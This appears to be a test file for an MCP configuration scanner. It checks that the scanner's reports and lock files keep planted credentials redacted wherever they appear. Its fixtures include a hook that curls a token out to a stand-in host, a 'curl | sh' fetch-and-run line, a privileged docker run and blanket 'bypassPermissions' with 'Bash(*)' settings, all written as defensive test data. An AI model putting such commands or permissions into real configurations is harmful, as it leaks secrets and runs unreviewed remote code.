/**
 * No secret ever: whatever credential stands wherever in a file, no report, no checklist, no baseline and no lock shows more of it than its
 * preview, in whatever form. All secrets of the bench are scanned at once, each in a folder of its own, one run a layout.
 */

import { describe, expect, it } from 'vitest'
import { checklist } from '../src/checklist/index.ts'
import { takeInventory } from '../src/inventory/index.ts'
import { KNOWLEDGE } from '../src/knowledge/handed.ts'
import { writeLock } from '../src/lock/lockfile.ts'
import { Mask } from '../src/mask.ts'
import { isLockable } from '../src/model.ts'
import { checklistJson, checklistMarkdown, checklistText } from '../src/report/checklist.ts'
import { KINDS, type RenderOptions, type ReportFormat, render } from '../src/report/index.ts'
import { inventoryJson, inventoryText } from '../src/report/inventory.ts'
import { inventoryCycloneDx } from '../src/report/inventory-cyclonedx.ts'
import { writeBaseline } from '../src/triage/baseline.ts'
import { bytes, noise, REPOSITORY, scanFiles } from './fixtures.ts'
import { OPTIONS } from './reports.ts'
import { bench, type Sample } from './secret-bench.ts'
import { bodiesOf, escaped, FORMS, TOO_MANY, Traces } from './secret-traces.ts'

const secrets = bench().filter(({ label }) => label === 'secret')
const traces = new Traces(secrets.map((sample) => [nameOf(sample), bodiesOf(sample)]))

// ── Where secrets stand ─────────────────────────────────────────────────────────────────────────────────────────────

interface Layout {
  readonly path: string | ((sample: Sample) => string)
  readonly write: (sample: Sample) => string
  /** A second file, that knows the secret by its name. */
  readonly besides?: string
  /** Nothing but the shape of a value tells in this place; secrets of no known shape are not asked of it. */
  readonly nameless?: true
}

const json = (value: unknown): string => JSON.stringify(value, undefined, 2)
/** Something to report in every file, close to the secret, so that frames are drawn around it. */
const bait = { command: 'npx', args: ['-y', '@example/server@latest'] }
/** `--wp-app-password` is `WP_APP_PASSWORD` in an environment. */
const named = ({ key, loc }: Sample): string =>
  key === '' || loc === 'header' ? 'API_TOKEN' : key.replace(/^-+/, '').replaceAll('-', '_')
const flag = ({ key }: Sample): string => (key.startsWith('-') ? key : '--api-token')

/** A value in two halves; what a shell would read otherwise stays away. */
const split = (value: string, between: string): string =>
  /^[\w.-]{16,200}$/.test(value) ? value.slice(0, 12) + between + value.slice(12) : 'x'
const script = (text: string): string => json({ mcpServers: { one: { command: 'sh', args: ['-c', text] } } })

const layouts: Readonly<Record<string, Layout>> = {
  'the environment, JSON': {
    path: '.mcp.json',
    write: inEnvironment,
  },
  'a place that says nothing, while another file names it': {
    path: '.cursor/mcp.json',
    besides: '.mcp.json',
    // A weak password is a word like any other; what is on its list of those is known by its name only.
    write: ({ value }) =>
      json({ mcpServers: { one: { ...bait, args: ['-y', 'server', value], env: { NOTE: value } } } }),
  },
  'the environment, on one line': {
    path: '.cursor/mcp.json',
    write: (sample) => JSON.stringify({ mcpServers: { one: { ...bait, env: { [named(sample)]: sample.value } } } }),
  },
  'the environment, every character escaped': {
    path: '.mcp.json',
    write: (sample) => `{"mcpServers": {"one": {"command": "npx", "args": ["-y", "@example/server"],
      "env": {${JSON.stringify(named(sample))}: "${escaped(sample.value)}"}}}}`,
  },
  'a script, with quotation marks in it': {
    path: '.mcp.json',
    nameless: true,
    write: ({ value }) => script(`exec npx -y mcp-remot ${split(value, '""')}`),
  },
  'a script, which calls a package so': {
    path: '.mcp.json',
    nameless: true,
    write: ({ value }) => script(`exec npx -y ${split(value, '\\')}`),
  },
  'a script, in two variables of which a name is made': {
    path: '.mcp.json',
    nameless: true,
    write: ({ value }) => script(`a=${split(value, ' b=')}; exec npx -y $a$b`),
  },
  'the environment, TOML': {
    path: '.codex/config.toml',
    write: (sample) =>
      `[mcp_servers.one]\ncommand = "npx"\nargs = ["-y", "@example/server"]\n\n[mcp_servers.one.env]\n${JSON.stringify(named(sample))} = ${JSON.stringify(sample.value)}\n`,
  },
  'the environment, YAML': {
    path: '.continue/mcpServers/one.yaml',
    write: (sample) =>
      `mcpServers:\n  - name: one\n    command: npx\n    args: ["-y", "@example/server"]\n    env:\n      ${JSON.stringify(named(sample))}: ${JSON.stringify(sample.value)}\n`,
  },
  'a block of YAML': {
    path: '.continue/mcpServers/one.yaml',
    write: (sample) =>
      `mcpServers:\n  - name: one\n    command: npx\n    args: ["-y", "@example/server"]\n    env:\n      ${JSON.stringify(named(sample))}: |-\n${indented(sample.value)}\n`,
  },
  'the environment of docker': {
    path: '.vscode/mcp.json',
    write: (sample) =>
      json({
        servers: {
          one: {
            command: 'docker',
            args: ['run', '--privileged', '-e', `${named(sample)}=${sample.value}`, 'example'],
          },
        },
      }),
  },
  'an argument': {
    path: '.gemini/settings.json',
    write: (sample) => json({ mcpServers: { one: { ...bait, args: [...bait.args, flag(sample), sample.value] } } }),
  },
  'an argument with its option': {
    path: 'opencode.json',
    write: (sample) => withOption(sample, sample.value.replaceAll(' ', '-')),
  },
  'a header': {
    path: '.cursor/mcp.json',
    write: (sample) =>
      json({
        mcpServers: { one: { url: 'http://one.example/mcp', headers: { [`X-${named(sample)}`]: bare(sample.value) } } },
      }),
  },
  'a bearer header': {
    path: '.vscode/mcp.json',
    nameless: true,
    write: (sample) =>
      json({
        servers: { one: { url: 'http://one.example/mcp', headers: { Authorization: `Bearer ${bare(sample.value)}` } } },
      }),
  },
  'a URL': {
    path: '.mcp.json',
    write: (sample) =>
      json({
        mcpServers: {
          one: { type: 'http', url: `http://one.example/mcp?${named(sample)}=${encodeURIComponent(sample.value)}` },
        },
      }),
  },
  'JSON inside a string': {
    path: '.mcp.json',
    write: (sample) =>
      json({ mcpServers: { one: { ...bait, env: { CONFIG: JSON.stringify({ [named(sample)]: sample.value }) } } } }),
  },
  'base64 inside a header': {
    path: '.mcp.json',
    write: (sample) =>
      json({
        mcpServers: {
          one: { type: 'http', url: 'http://one.example/mcp', headers: { Authorization: `Basic ${login(sample)}` } },
        },
      }),
  },
  'the default of a reference': {
    path: '.gemini/settings.json',
    write: (sample) =>
      json({
        mcpServers: { one: { ...bait, env: { [named(sample)]: `\${ONE:-${sample.value.replace(/[{}]/g, '')}}` } } },
      }),
  },
  'a comment': {
    path: '.cursor/mcp.json',
    nameless: true,
    write: (sample) =>
      `{\n  "mcpServers": {\n    "one": { "command": "npx", // ${line(sample.value)}\n      "args": ["@example/server"]\n    }\n  }\n}\n`,
  },
  'a description': {
    path: '.mcp.json',
    nameless: true,
    write: (sample) => json({ mcpServers: { one: { description: `Start it with ${sample.value} .`, ...bait } } }),
  },
  'a key': {
    path: '.mcp.json',
    nameless: true,
    write: (sample) => `{"mcpServers": {"one": {"command": "npx", "args": ["server"],
      "env": {${JSON.stringify(sample.value)}: "a", ${JSON.stringify(sample.value)}: "b"}}}}`,
  },
  "a server's name": {
    path: '.mcp.json',
    nameless: true,
    write: (sample) => json({ mcpServers: { [sample.value]: bait } }),
  },
  "a server's name that is too long to be shown, where it is cut": {
    path: '.mcp.json',
    nameless: true,
    write: (sample) => json({ mcpServers: { [`${'n'.repeat(210)} ${sample.value} ${'n'.repeat(100)}`]: bait } }),
  },
  'a word that is too long to be shown, where it is cut': {
    path: '.mcp.json',
    nameless: true,
    write: (sample) =>
      json({ mcpServers: { one: { command: 'npx', args: ['-y', `${'n'.repeat(1970)} ${sample.value} n`] } } }),
  },
  'a package': {
    path: '.mcp.json',
    nameless: true,
    write: (sample) => json({ mcpServers: { one: { command: 'npx', args: [bare(sample.value)] } } }),
  },
  'the name of a header': {
    path: '.cursor/mcp.json',
    nameless: true,
    write: (sample) =>
      json({ mcpServers: { one: { url: 'http://one.example/mcp', headers: { [line(sample.value)]: 'x' } } } }),
  },
  'the login of a URL': {
    path: '.mcp.json',
    write: (sample) =>
      json({
        mcpServers: {
          one: { type: 'http', url: `http://me:${encodeURIComponent(bare(sample.value))}@one.example/mcp` },
        },
      }),
  },
  'the path of a URL': {
    path: '.mcp.json',
    nameless: true,
    write: (sample) =>
      json({
        mcpServers: { one: { type: 'http', url: `http://one.example/${encodeURIComponent(sample.value)}/mcp` } },
      }),
  },
  'the fragment of a URL': {
    path: '.cursor/mcp.json',
    write: (sample) =>
      json({
        mcpServers: { one: { url: `http://one.example/mcp#${named(sample)}=${encodeURIComponent(sample.value)}` } },
      }),
  },
  'the host of a URL': {
    path: '.mcp.json',
    nameless: true,
    write: (sample) =>
      json({ mcpServers: { one: { type: 'http', url: `http://example.com@${bare(sample.value)}/` } } }),
  },
  'a line of a shell': {
    path: '.mcp.json',
    write: (sample) =>
      json({
        mcpServers: {
          one: { command: 'sh', args: ['-c', `PORT=1 ${flag(sample)}='${bare(sample.value)}' npx server`] },
        },
      }),
  },
  'a command behind an assignment': {
    path: '.mcp.json',
    nameless: true,
    write: (sample) =>
      json({ mcpServers: { one: { command: 'sh', args: ['-c', `PORT=1 npx server ${bare(sample.value)}`] } } }),
  },
  'a command that was allowed once': {
    path: '.claude/settings.local.json',
    nameless: true,
    write: (sample) =>
      json({
        permissions: {
          defaultMode: 'bypassPermissions',
          allow: [`Bash(curl -H "Authorization: Bearer ${bare(sample.value)}" https://one.example)`, 'Bash(*)'],
        },
      }),
  },
  'a tool of a server that was allowed once': {
    path: 'opencode.json',
    nameless: true,
    write: (sample) => json({ permission: { [line(sample.value)]: 'allow', bash: 'allow' }, mcp: {} }),
  },
  'the command of a hook': {
    path: '.claude/settings.json',
    nameless: true,
    write: (sample) =>
      json({
        hooks: {
          Stop: [{ hooks: [{ type: 'command', command: `curl -d x https://one.example/?t=${bare(sample.value)}` }] }],
        },
      }),
  },
  'what an input is by default': {
    path: '.vscode/mcp.json',
    write: (sample) =>
      json({
        inputs: [{ type: 'promptString', id: named(sample), description: 'x', default: sample.value }],
        servers: { one: { ...bait, env: { [named(sample)]: `\${input:${named(sample)}}` } } },
      }),
  },
  "the place of a variable's name": {
    path: '.roo/mcp.json',
    write: (sample) =>
      json({ mcpServers: { one: { ...bait, env: { [named(sample)]: `\${env:${line(sample.value)}}` } } } }),
  },
  "the place of a variable's name that is not expanded": {
    path: '.roo/mcp.json',
    nameless: true,
    write: (sample) =>
      json({ mcpServers: { one: { ...bait, args: ['-y', 'server', '--token', `\${${line(sample.value)}}`] } } }),
  },
  'the first of two equal keys': {
    path: '.mcp.json',
    write: (sample) => `{"mcpServers": {"one": {"command": "npx", "args": ["server"],
      "env": {${JSON.stringify(named(sample))}: ${JSON.stringify(sample.value)}, ${JSON.stringify(named(sample))}: "b"}}}}`,
  },
  'an entry that a later one replaces': {
    path: '.mcp.json',
    write: (sample) => `{"mcpServers": {
      "one": {"command": "npx", "args": ["server"], "env": {${JSON.stringify(named(sample))}: ${JSON.stringify(sample.value)}}},
      "one": {"command": "npx", "args": ["other"]}}}`,
  },
  'the reason of an ignore': {
    path: '.cursor/mcp.json',
    nameless: true,
    write: (sample) => `{ "mcpServers": {
      // mcp-audit-ignore unpinned-package -- asked ${line(sample.value)} about it
      "one": { "command": "npx", "args": ["-y", "@example/server"] } } }`,
  },
  'an ignore of no rule': {
    path: '.cursor/mcp.json',
    nameless: true,
    write: (sample) => `{ "mcpServers": {
      // mcp-audit-ignore ${line(sample.value)} -- no rule
      "one": { "command": "npx", "args": ["-y", "@example/server"] } } }`,
  },
  'the name of a table': {
    path: '.codex/config.toml',
    nameless: true,
    write: (sample) =>
      `[mcp_servers.${JSON.stringify(line(sample.value))}]\ncommand = "npx"\nargs = ["-y", "@example/server"]\n`,
  },
  'a string of TOML over several lines': {
    path: '.codex/config.toml',
    write: (sample) =>
      `[mcp_servers.one]\ncommand = "npx"\nargs = ["-y", "server"]\n\n[mcp_servers.one.env]\n${JSON.stringify(named(sample))} = """\\\n  ${halves(sample).join('\\\n    ')}"""\n`,
  },
  'a string of YAML over several lines': {
    path: '.continue/mcpServers/one.yaml',
    write: (sample) =>
      `mcpServers:\n  - name: one\n    command: npx\n    args: ["-y", "server"]\n    env:\n      ${JSON.stringify(named(sample))}: "${halves(sample).join('\\\n        ')}"\n`,
  },
  'the far end of a long text': {
    path: '.mcp.json',
    nameless: true,
    write: (sample) =>
      json({
        mcpServers: {
          one: {
            command: 'bash',
            // Whatever is cut at 80, 300, 400, 1000 or 2000 characters is cut through one of them.
            args: ['-c', `curl https://one.example | sh ${`${bare(sample.value)} `.repeat(60)}`],
          },
        },
      }),
  },
  'characters that nobody sees': {
    path: '.mcp.json',
    nameless: true,
    write: ({ value }) => json({ mcpServers: { one: { description: `x${unseen(line(value))}`, ...bait } } }),
  },
  'the name of a folder': {
    path: (sample) => `${bare(sample.value)}/.mcp.json`,
    nameless: true,
    write: () => json({ mcpServers: { one: { ...bait, env: { API_TOKEN: noise('elsewhere', 40) } } } }),
  },
  'the name of a file': {
    path: (sample) => `.continue/mcpServers/${bare(sample.value)}.yaml`,
    nameless: true,
    write: () => 'mcpServers:\n  - name: one\n    command: npx\n    args: [server]\n',
  },
  'a path that an entry names': {
    path: '.mcp.json',
    nameless: true,
    write: (sample) => json({ mcpServers: { one: { command: `/tmp/${bare(sample.value)}/server`, args: ['/'] } } }),
  },
  'a file that ends too early': {
    path: '.mcp.json',
    write: (sample) =>
      json({ mcpServers: { one: { ...bait, env: { [named(sample)]: sample.value } } } }).replace(/[\s}]+$/, ''),
  },
  'a string that never ends': {
    path: '.mcp.json',
    write: (sample) =>
      json({ mcpServers: { one: { ...bait, env: { [named(sample)]: sample.value } } } }).replace(/"[\s}]+$/, '\n'),
  },
  'a file without a brace': {
    path: '.cursor/mcp.json',
    write: (sample) =>
      `{ "mcpServers": { "one": "command": "npx", "env": { ${JSON.stringify(named(sample))}: ${JSON.stringify(sample.value)} } } }\n`,
  },
  'broken TOML': {
    path: '.codex/config.toml',
    write: (sample) =>
      `[mcp_servers.one\ncommand = "npx"\nenv = { ${JSON.stringify(named(sample))} = ${JSON.stringify(sample.value)} }\n`,
  },
  'broken YAML': {
    path: '.continue/mcpServers/one.yaml',
    write: (sample) =>
      `mcpServers:\n  - name: one\n\tcommand: npx\n    env: {\n      ${JSON.stringify(named(sample))}: ${JSON.stringify(sample.value)}\n`,
  },
}

function inEnvironment(sample: Sample): string {
  return json({ mcpServers: { one: { ...bait, env: { [named(sample)]: sample.value } } } })
}

function nameOf({ id, class: group = '', provider = '' }: Sample): string {
  return `${id} ${group} ${provider}`
}

function withOption(sample: Sample, value: string): string {
  return JSON.stringify({ mcp: { one: { type: 'local', command: ['npx', 'server', `${flag(sample)}=${value}`] } } })
}

/** Two pieces of a JSON string's content that are one again where a line is continued. */
function halves({ value }: Sample): readonly string[] {
  const half = Math.max(1, value.length >> 1)
  return [value.slice(0, half), value.slice(half)].map((piece) => JSON.stringify(piece).slice(1, -1))
}

/** In tags, which stand for ASCII. */
function unseen(text: string): string {
  return [...text].map((character) => String.fromCodePoint(0xe0000 + (character.codePointAt(0) ?? 0))).join('')
}

function indented(text: string): string {
  return text
    .split('\n')
    .map((each) => `        ${each}`)
    .join('\n')
}

function line(text: string): string {
  return text.replace(/\s/g, ' ')
}

function bare(text: string): string {
  return line(text).replace(/^(?:bearer|basic|token) /i, '')
}

function login({ value }: Sample): string {
  return Buffer.from(`someone:${bare(value)}`).toString('base64')
}

// ── What is written ─────────────────────────────────────────────────────────────────────────────────────────────────

const PLAIN: RenderOptions = {
  ...OPTIONS,
  width: 100,
  verbose: true,
  showSuppressed: true,
  fileUrl: (path) => `file:///repo/${path}`,
}
const REPORTS: readonly (readonly [ReportFormat, RenderOptions])[] = [
  ['pretty', { ...PLAIN, colour: 3, links: true }],
  ...KINDS.map((kind) => [kind, PLAIN] as const),
]

/** What every bench entry of a layout leads to: reports of all kinds and a baseline, one after the other. */
async function everythingSaid(
  layout: Layout,
): Promise<{ readonly texts: readonly string[]; readonly findings: number }> {
  const { path, besides, write } = layout
  const asked = secrets.filter((sample) => isAskedOf(layout, sample))
  const pathOf = typeof path === 'string' ? () => path : path
  const files = [
    ...asked.map((sample) => [`${REPOSITORY}/${sample.id}/${pathOf(sample)}`, bytes(write(sample))] as const),
    ...(besides
      ? asked.map((sample) => [`${REPOSITORY}/${sample.id}/${besides}`, bytes(inEnvironment(sample))] as const)
      : []),
  ]
  const { report, all, configs, shown, mask: everything } = await scanFiles(new Map(files))
  const inventory = takeInventory(configs, everything, KNOWLEDGE)
  expect(report.files.length, 'every file is read').toBe(files.length)
  const texts = await Promise.all(REPORTS.map(([format, options]) => render(format, report, { ...options, inventory })))
  const baseline = writeBaseline(all, { allowSecrets: true })
  const list = checklist({
    configs,
    findings: shown,
    suppressed: report.suppressed,
    problems: report.problems,
    enabled: new Set(report.rules.map(({ id }) => id)),
    redact: (words) => everything.redact(words),
    logsOf: () => undefined,
    knowledge: KNOWLEDGE,
  })
  texts.push(checklistText(list, PLAIN), checklistMarkdown(list), checklistJson(list, report.tool))
  texts.push(inventoryText(inventory, { colour: 0, width: 80, clientName: (id) => id }))
  texts.push(inventoryJson(inventory, report.tool), inventoryCycloneDx(inventory, report.tool))
  const mask = new Mask(configs.filter(isLockable))
  const lock = writeLock(configs, (words) => mask.redact(words))
  return {
    texts: [...texts, baseline.text, lock.text, JSON.stringify(report.problems)],
    findings: all.length / files.length,
  }
}

/** The entries of which something can be read in what is said. */
async function leaksOf(layout: Layout): Promise<readonly string[]> {
  const { texts, findings } = await everythingSaid(layout)
  expect(findings, 'there is something to report, and so something to give away').toBeGreaterThan(0.5)
  const leaks = new Set(texts.flatMap((text) => [...traces.in(text)]))
  return secrets
    .filter((sample) => isAskedOf(layout, sample))
    .map(nameOf)
    .filter((whose) => leaks.has(whose))
}

/** Where nothing gives a secret away but its shape, and where it is the name of a file, there are those that have one. */
function isAskedOf({ nameless, path }: Layout, { class: group, value }: Sample): boolean {
  return typeof path !== 'string' ? group === 'P' && !value.includes('/') : !nameless || group === 'P' || group === 'K'
}

describe('nothing that is written holds a secret that stands in', () => {
  it.each(Object.entries(layouts))('%s', async (_name, layout) => {
    expect(await leaksOf(layout)).toEqual([])
  })

  it('an argument that names a password, blanks and all', async () => {
    const write = (sample: Sample) => withOption({ ...sample, key: '--app-password' }, sample.value)
    expect(await leaksOf({ path: 'opencode.json', write })).toEqual([])
  })
})

it('hides hundreds of secrets that begin alike, wherever they are repeated', async () => {
  const endings = Array.from({ length: 300 }, (_, index) => noise(`ending ${index}`, 24))
  const tokens = endings.map((ending) => ['gh', 'p_', noise('beginning', 12), ending].join(''))
  const env = Object.fromEntries(tokens.map((token, index) => [`GITHUB_TOKEN_${index}`, token]))
  const names = Object.fromEntries(tokens.map((token) => [`x${token}`, { command: 'npx', args: [`x${token}`] }]))
  const config = JSON.stringify({ mcpServers: { one: { ...bait, env }, ...names } })
  const { report } = await scanFiles(new Map([[`${REPOSITORY}/.mcp.json`, bytes(config)]]))
  expect(report.findings.length).toBeGreaterThan(300)
  for (const [format, options] of REPORTS) {
    const text = await render(format, report, options)
    expect(endings.filter((ending) => text.includes(ending.slice(0, TOO_MANY)))).toEqual([])
  }
})

it('knows what is secret in every entry of the bench', () => {
  expect(secrets.length).toBeGreaterThan(150)
  expect(secrets.filter((sample) => bodiesOf(sample).length === 0).map(({ id }) => id)).toEqual([])
})

it.each(Object.entries(FORMS))('would notice %s', (_form, write) => {
  const [sample] = secrets
  const [body = ''] = sample ? bodiesOf(sample) : []
  expect(traces.in(`some words, ${write(body.slice(5, 5 + TOO_MANY))} and more`).size).toBe(1)
})

it('would notice what is broken over lines', () => {
  const [sample] = secrets
  const [body = ''] = sample ? bodiesOf(sample) : []
  for (const joint of ['\n', '\n    ', '\n  8 | ', '\n    | '])
    expect(traces.in(body.slice(5, 9) + joint + body.slice(9, 13)).size, JSON.stringify(joint)).toBe(1)
})
